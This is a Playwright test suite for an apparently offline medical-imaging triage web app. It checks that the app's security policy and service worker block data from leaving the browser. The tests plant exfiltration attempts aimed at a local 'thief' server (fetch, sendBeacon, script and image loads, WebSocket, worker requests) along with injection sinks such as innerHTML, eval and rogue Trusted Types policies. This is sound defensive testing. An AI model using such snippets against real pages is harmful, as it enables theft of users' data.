import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';

test.use({ serviceWorkers: 'allow' });

const DIST = fileURLToPath(new URL('../dist/', import.meta.url));
const TYPES: Readonly<Record<string, string>> = {
  html: 'text/html',
  js: 'text/javascript',
  css: 'text/css',
  svg: 'image/svg+xml',
  wasm: 'application/wasm',
  json: 'application/json',
};

/** What a thief listens on: a real server elsewhere, which would hear every request that gets out. */
let thief: Server;
let heard: string[] = [];
/** The built app from a host that sends none of the headers. */
let bare: Server;
const urlOf = (server: Server) => `http://localhost:${(server.address() as AddressInfo).port}/`;

test.beforeAll(async () => {
  thief = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('cross-origin-resource-policy', 'cross-origin');
    response.end('');
  });
  thief.on('upgrade', (request, socket) => {
    heard.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  bare = createServer((request, response) => {
    const path = (request.url ?? '/').split('?')[0] ?? '/';
    const file = resolve(join(DIST, path === '/' ? 'index.html' : path));
    try {
      if (!file.startsWith(resolve(DIST))) throw new Error('outside');
      const bytes = readFileSync(file);
      response.setHeader('content-type', TYPES[file.split('.').at(-1) ?? ''] ?? 'text/plain');
      response.end(bytes);
    } catch {
      response.statusCode = 404;
      response.end();
    }
  });
  for (const server of [thief, bare]) {
    await new Promise<void>((done) => server.listen(0, done));
  }
});

test.beforeEach(() => {
  heard = [];
});

test.afterAll(() => {
  thief.close();
  bare.close();
});

/** Everything that a script in the page can send by, each with a path of its own. */
async function plant(page: Page, to: string): Promise<void> {
  await page.evaluate((thiefUrl) => {
    const attempt = (act: () => unknown) => {
      try {
        Promise.resolve(act()).catch(() => undefined);
      } catch {
        // Refused on the spot.
      }
    };
    attempt(() => fetch(`${thiefUrl}fetch`, { method: 'POST', mode: 'no-cors', body: 'name' }));
    attempt(() => navigator.sendBeacon(`${thiefUrl}beacon`, 'name'));
    attempt(() => Object.assign(new Image(), { src: `${thiefUrl}image` }));
    attempt(() => {
      const spot = document.createElement('i');
      spot.style.cssText = `position:fixed;width:9px;height:9px;background:url(${thiefUrl}css)`;
      document.body.append(spot);
    });
    attempt(() => {
      const script = document.createElement('script');
      script.src = `${thiefUrl}script`;
      document.head.append(script);
    });
    attempt(() => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${thiefUrl}stylesheet`;
      document.head.append(link);
    });
    attempt(() => {
      const request = new XMLHttpRequest();
      request.open('GET', `${thiefUrl}xhr`);
      request.send();
    });
  }, to);
}
const PLANTED = 7;
/** What the test below tries to have taken as markup or code. */
const PLANTED_AS_TEXT = 15;

const readyAndControlled = async (page: Page) => {
  await expect(page.getByRole('button', { name: 'Privacy and version' })).toBeVisible();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
};

test('what is planted in the page is stopped by the policy, each try is told of, and nothing is heard elsewhere', async ({
  app,
}) => {
  await app.open();
  await readyAndControlled(app.page);
  await plant(app.page, urlOf(thief));
  await app.page.evaluate(
    (to) => {
      new WebSocket(to.replace('http', 'ws'));
    },
    `${urlOf(thief)}socket`,
  );
  const worker = app.page.workers().find((each) => each.url().includes('inference.worker'));
  await worker?.evaluate((to) => fetch(to).catch(() => undefined), `${urlOf(thief)}worker`);
  await app.page.getByRole('button', { name: 'A request was stopped' }).click();
  const refused = app.page.getByTestId('refused').getByRole('listitem');
  await expect(refused).toHaveCount(PLANTED + 2);
  await expect(refused.first()).toContainText(new URL(urlOf(thief)).host);
  await expect(app.page.getByTestId('requests')).toContainText('None went elsewhere');
  expect(heard).toEqual([]);
  const counted = `${PLANTED + 2} tries to send, each stopped and told of; ${heard.length} heard elsewhere`;
  test.info().annotations.push({ type: 'figure', description: counted });
  expect(app.problems.join()).toContain('Content Security Policy');
  app.problems.length = 0;
});

test('text that is to become markup or code, and scripts from elsewhere, are refused in the page and in a worker, and each is told of', async ({
  app,
}) => {
  await app.open();
  await readyAndControlled(app.page);
  const to = urlOf(thief);
  const letThrough = await app.page.evaluate((thiefUrl) => {
    const spot = document.createElement('i');
    const script = document.createElement('script');
    const plants: Readonly<Record<string, () => unknown>> = {
      innerHTML: () => Object.assign(spot, { innerHTML: `<img src="${thiefUrl}markup">` }),
      insertAdjacentHTML: () => spot.insertAdjacentHTML('beforeend', '<b>Doe</b>'),
      srcdoc: () => document.createElement('iframe').setAttribute('srcdoc', '<b>Doe</b>'),
      parser: () => new DOMParser().parseFromString('<b>Doe</b>', 'text/html'),
      worker: () => new Worker(`${thiefUrl}worker`),
      'worker of a blob': () => new Worker(URL.createObjectURL(new Blob(['1']))),
      script: () => Object.assign(script, { src: `${thiefUrl}script` }),
      'own script': () => Object.assign(script, { src: './sw.js' }),
      'code in an element': () => Object.assign(script, { text: 'name = "Doe"' }),
      // biome-ignore lint/security/noGlobalEval: this is what must be refused.
      eval: () => globalThis.eval('name = "Doe"'),
      'a function of text': () => new Function('name = "Doe"'),
      timer: () => Reflect.apply(setTimeout, globalThis, ['name = "Doe"']),
      'a policy of its own': () =>
        Reflect.get(globalThis, 'trustedTypes').createPolicy('mine', {
          createHTML: (text: string) => text,
        }),
      'the default policy anew': () =>
        Reflect.get(globalThis, 'trustedTypes').createPolicy('default', {
          createScriptURL: (url: string) => url,
        }),
      'the policy for markup anew': () =>
        Reflect.get(globalThis, 'trustedTypes').createPolicy('own-markup', {
          createHTML: (text: string) => text,
        }),
    };
    const through = () =>
      Object.entries(plants).flatMap(([name, plant]) => {
        try {
          plant();
          return [name];
        } catch {
          return [];
        }
      });
    // Within a call of the test's own, Chromium lets eval pass.
    return new Promise<readonly string[]>((done) => setTimeout(() => done(through())));
  }, to);
  expect(letThrough).toEqual([]);
  expect(await app.page.evaluate(() => window.name)).toBe('');
  const worker = app.page.workers().find((each) => each.url().includes('inference.worker'));
  const inWorker = await worker?.evaluate((thiefUrl) => {
    try {
      new Worker(`${thiefUrl}nested`);
      return 'let through';
    } catch (error) {
      return String(error);
    }
  }, to);
  expect(inWorker).toContain('TypeError');
  await app.page.getByRole('button', { name: 'A request was stopped' }).click();
  const refused = app.page.getByTestId('refused');
  const told = refused.getByRole('listitem');
  for (const [door, times] of Object.entries({
    'Element innerHTML': 1,
    'DOMParser parseFromString': 1,
    // Of the page another origin's and a blob, of a worker another origin's.
    'Worker constructor': 3,
    'HTMLScriptElement src': 2,
    'trusted-types-policy': 3,
  })) {
    await expect(told.filter({ hasText: door }), door).toHaveCount(times);
  }
  await expect(told.filter({ hasText: /eval|Function/ }).first()).toBeVisible();
  expect(await told.count()).toBeGreaterThanOrEqual(PLANTED_AS_TEXT + 1);
  await expect(refused).not.toContainText('Doe');
  expect(heard).toEqual([]);
  const counted = `${PLANTED_AS_TEXT} of the page and one of a worker, each refused`;
  test.info().annotations.push({ type: 'figure', description: counted });
  app.problems.length = 0;
});

test('tfjs-wasm tries nothing that the policy forbids: it runs, and the ledger tells of nothing refused', async ({
  app,
}) => {
  await app.open('?model=tiny&engine=tfjs-wasm');
  await expect(app.page.getByTestId('engine')).toHaveAccessibleName(
    /TensorFlow\.js WASM, .* ms a slice/,
  );
  await app.page.getByRole('button', { name: 'Privacy and version' }).click();
  await expect(app.page.getByTestId('requests')).toContainText('None went elsewhere');
  await expect(app.page.getByTestId('refused')).toHaveCount(0);
});

test('a peer connection and a leap to another origin are refused, and told of', async ({ app }) => {
  await app.open();
  await readyAndControlled(app.page);
  const outcome = await app.page.evaluate(async (to) => {
    let peer = 'connected';
    try {
      new RTCPeerConnection({ iceServers: [{ urls: 'stun:elsewhere.invalid' }] });
    } catch (error) {
      peer = String(error);
    }
    location.href = `${to}leap`;
    await new Promise((resolve) => setTimeout(resolve, 500));
    return peer;
  }, urlOf(thief));
  expect(outcome).toContain('SecurityError');
  expect(new URL(app.page.url()).origin).not.toBe(new URL(urlOf(thief)).origin);
  await app.page.getByRole('button', { name: 'A request was stopped' }).click();
  const refused = app.page.getByTestId('refused');
  await expect(refused).toContainText('webrtc');
  await expect(refused).toContainText('navigation');
  expect(heard).toEqual([]);
});

test('where the host sends no policy, the service worker alone stops what is planted', async ({
  app,
}) => {
  await app.page.goto(`${urlOf(bare)}?model=tiny`);
  await readyAndControlled(app.page);
  // A worker belongs to the service worker that its page had when it was started.
  await app.page.reload();
  await readyAndControlled(app.page);
  await plant(app.page, urlOf(thief));
  const worker = app.page.workers().find((each) => each.url().includes('dicom.worker'));
  await worker?.evaluate((to) => fetch(to).catch(() => undefined), `${urlOf(thief)}worker`);
  await app.page.getByRole('button', { name: 'A request was stopped' }).click();
  const refused = app.page.getByTestId('refused').getByRole('listitem');
  await expect(refused).toHaveCount(PLANTED + (worker === undefined ? 0 : 1));
  await expect(refused.filter({ hasText: 'service worker' })).toHaveCount(await refused.count());
  await expect(app.page.getByTestId('requests')).toContainText('None went elsewhere');
  expect(heard).toEqual([]);
  app.problems.length = 0;
});

test('what carries something to the own host, or asks for what is no file of the app, is refused', async ({
  app,
}) => {
  await app.open();
  await readyAndControlled(app.page);
  const outcomes = await app.page.evaluate(() =>
    Promise.all(
      [
        fetch('./', { method: 'POST', body: 'name' }),
        fetch('./models/index.json?name=Doe'),
        fetch('./collect/Doe'),
        fetch('./models/index.json'),
      ].map((answer) =>
        answer.then(
          ({ status }) => status,
          () => 'refused',
        ),
      ),
    ),
  );
  expect(outcomes).toEqual(['refused', 'refused', 'refused', 200]);
  app.problems.length = 0;
});

test('the self-test finds every try stopped, and the attestation says what is loaded and nothing of a patient', async ({
  app,
}) => {
  await app.open();
  await readyAndControlled(app.page);
  await app.page.getByRole('button', { name: 'Privacy and version' }).click();
  await app.page.getByRole('button', { name: 'Try to send' }).click();
  const probes = app.page.getByTestId('probes').getByRole('row');
  await expect(probes).toHaveCount(8);
  await expect(probes.filter({ hasText: 'Stopped' })).toHaveCount(8);
  // A test is no alarm.
  await expect(app.page.getByTestId('refused')).toHaveCount(0);
  const download = app.page.waitForEvent('download');
  await app.page.getByRole('button', { name: 'Download attestation' }).click();
  const said = JSON.parse(readFileSync(await (await download).path(), 'utf8'));
  expect(said.format).toBe('ich-triage-attestation');
  expect(said.version).toMatch(/^\d+\.\d+\.\d+\+[0-9a-f]{12}$/);
  expect(said.offline).toBe('kept');
  expect(said.elsewhere).toEqual([]);
  expect(said.requests).toBeGreaterThan(5);
  expect(said.headers['content-security-policy']).toContain("connect-src 'self'");
  expect(said.selfTest.every((probe: { isBlocked: boolean }) => probe.isBlocked)).toBe(true);
  const weights = said.loaded.find(({ path }: { path: string }) => path.endsWith('.bin'));
  expect(weights.sha256).toMatch(/^[0-9a-f]{64}$/);
  app.problems.length = 0;
});

test('the self-test says so where nothing stops a try', async ({ app }) => {
  // Neither a policy nor a service worker: the worst host there is.
  await app.page.addInitScript(() => Reflect.deleteProperty(Navigator.prototype, 'serviceWorker'));
  await app.page.goto(`${urlOf(bare)}?model=tiny`);
  await app.page.getByRole('button', { name: 'Privacy and version' }).click();
  await app.page.getByRole('button', { name: 'Try to send' }).click();
  const probes = app.page.getByTestId('probes').getByRole('row');
  await expect(probes.filter({ hasText: 'Not stopped' })).toHaveCount(7);
  await expect(probes.filter({ hasText: 'WebRTC' })).toContainText('Stopped');
  await expect(app.page.getByTestId('version')).toContainText('Not kept in this browser');
  app.problems.length = 0;
});
